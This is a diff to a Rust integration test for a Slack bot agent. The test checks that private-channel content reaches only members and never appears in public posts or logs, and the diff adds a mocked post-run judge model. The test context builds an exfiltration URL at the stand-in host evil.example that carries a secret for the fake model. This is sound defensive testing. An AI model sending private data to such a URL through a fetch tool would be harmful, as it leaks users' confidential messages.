@@ -976,6 +976,18 @@ async fn the_bot_reads_private_channels_only_for_members_and_keeps_their_content
     let evil = format!("https://evil.example/collect?q={}", secret.replace(' ', "+"));
     let evil_for_model = evil.clone();
     fake.handler(move |body| {
+        if body["model"] == "judge-model" {
+            // The judge quotes what it read: the member's run's answer came to hold the
+            // private channel's content after a public start.
+            let quoted = if body.to_string().contains("Globex") {
+                "It says the merger with Globex closes in May."
+            } else {
+                "It declines."
+            };
+            return support::Reply::ok(support::openai_text(
+                &json!({"pass": true, "score": 1, "explanation": quoted}).to_string(),
+            ));
+        }
         let messages = body["messages"].as_array().unwrap();
         let results: Vec<&str> = messages
             .iter()
@@ -1011,7 +1023,8 @@ async fn the_bot_reads_private_channels_only_for_members_and_keeps_their_content
         root.path(),
         "agents/helper.yaml",
         "description: Helps.\ntriggers:\n  - slack_mention: {}\nmodel: openai/gpt-4.1\nprompt: prompts/p.md\n\
-         tools: [slack_channel_history, slack_post_message, http_fetch]\noutput: { stream: false }\n",
+         tools: [slack_channel_history, slack_post_message, http_fetch]\noutput: { stream: false }\n\
+         evals: { post_run: [\"The answer summarises the channel.\"], model: openai/judge-model, sample: 1.0 }\n",
     );
     let db = root.path().join("data/steward.db");
     let log = root.path().join("steward.log");
@@ -1050,6 +1063,7 @@ async fn the_bot_reads_private_channels_only_for_members_and_keeps_their_content
     })
     .await;
     let tool_result = fake.requests()[1].body.to_string();
+    assert_ne!(fake.requests()[1].body["model"], "judge-model");
     assert!(tool_result.contains("is not a member of"), "{tool_result}");
     assert!(
         !calls
@@ -1153,7 +1167,14 @@ async fn the_bot_reads_private_channels_only_for_members_and_keeps_their_content
         !all.iter().any(|b| b.contains(r#""channel":"C0OTHER""#)),
         "the post never ran"
     );
-    let last = fake.requests().last().unwrap().body.to_string();
+    let last = fake
+        .requests()
+        .into_iter()
+        .rev()
+        .find(|r| r.body["model"] != "judge-model")
+        .unwrap()
+        .body
+        .to_string();
     assert_eq!(
         last.matches("denied by").count(),
         2,
@@ -1174,8 +1195,13 @@ async fn the_bot_reads_private_channels_only_for_members_and_keeps_their_content
         "no quote in public: {public:?}"
     );
     assert!(all.iter().any(|b| b.contains("D0MEMBER") && b.contains("Globex")));
+    // The post-run judge read the answer too: scored, quoting nothing at rest.
+    until("the judge's call", || {
+        fake.requests().iter().any(|r| r.body["model"] == "judge-model")
+    })
+    .await;
 
-    tokio::time::sleep(Duration::from_millis(500)).await;
+    tokio::time::sleep(Duration::from_millis(1500)).await;
     let _ = std::process::Command::new("kill")
         .args(["-TERM", &child.id().to_string()])
         .status();
@@ -1185,7 +1211,12 @@ async fn the_bot_reads_private_channels_only_for_members_and_keeps_their_content
             continue;
         };
         for needle in [secret, "Globex"] {
-            assert!(!holds(&bytes, needle), "'{needle}' found in {name}");
+            let lines: Vec<String> = String::from_utf8_lossy(&bytes)
+                .lines()
+                .filter(|l| l.contains(needle))
+                .map(str::to_string)
+                .collect();
+            assert!(!holds(&bytes, needle), "'{needle}' found in {name}: {lines:?}");
         }
     }
 }
